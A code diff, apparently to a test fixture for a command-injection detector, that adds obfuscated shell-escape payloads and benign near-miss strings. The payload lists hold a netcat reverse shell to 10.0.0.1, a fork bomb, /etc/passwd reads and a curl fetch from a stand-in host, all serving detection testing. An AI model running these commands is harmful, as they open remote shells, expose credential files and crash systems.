@@ -56,6 +56,9 @@ COMMANDS = {
                       "\r\nRETR 123", "\r\nlist 3", "INBOX\r\nA2 LOGIN admin secret"],
     "assembled": ["f(){ f & f; };f", "f(){ f() | f(); }; f", "() {", "{id,}", "{,ifconfig,eth0}",
                   "a=nc&&$a -nlvp 555", "a=/etc&&b=/passwd&&c=cat&&$c $a$b", "';htop'"],
+    "client escapes": ["c99 -wrapper sh,-c,curl google.com .", "1;.sh whoami", ";\\n.shell nc 10.0.0.1 6666 -e sh\\n",
+                       "\\ls", "bin/visudo", "'cscli' alerts list\n", '"ll" /var/www/', "time; ansible-config dump\n",
+                       "alias -p jzfrx=id\n", "alias eennvv=env&eennvv whoami"],
     "line ended": ["visudo\n", "nohup who\n", "time who\n", "cscli alerts list\n", "pip3 install something\n",
                    "ansible-console\n", "chef-client -t 1.1.1.1\n"],
     "unix": ["; cat /etc/passwd", "| id", "&& sleep 5", "; ping -c 10 127.0.0.1", "|curl http://x.example/a.sh",
@@ -75,6 +78,9 @@ COMMAND_NEAR_MISSES = [
     "Cut orange quarters into crosswise slices about 1/8-inch thick.\n", "Go to store.\nAt the store, shop.",
     "function f(){ return 1 };", "x() { return y }", "() => {}", "{id,name}", "q={id,name}", "{ls}",
     "a=1&b=2&c=$5", "price=5 and $x", "Total=5; $total",
+    "alias names are fun", "alias=john", "aliases: a=b", "'quoted' word here", "files; .sh scripts", "C:\\ls",
+    "Use chef; chef is nice", "I love ansible", "'hello' world",
+    "* The GNU `nroff` test in `configure` now works when `/bin/sh` is `ash`.",
     "pip\n", "top\n", "date\n", "Dear team,\r\nHelp is on the way", "Notes:\nquit smoking", "a\nstore 2 apples",
 ]
 CODE_PAYLOADS = {
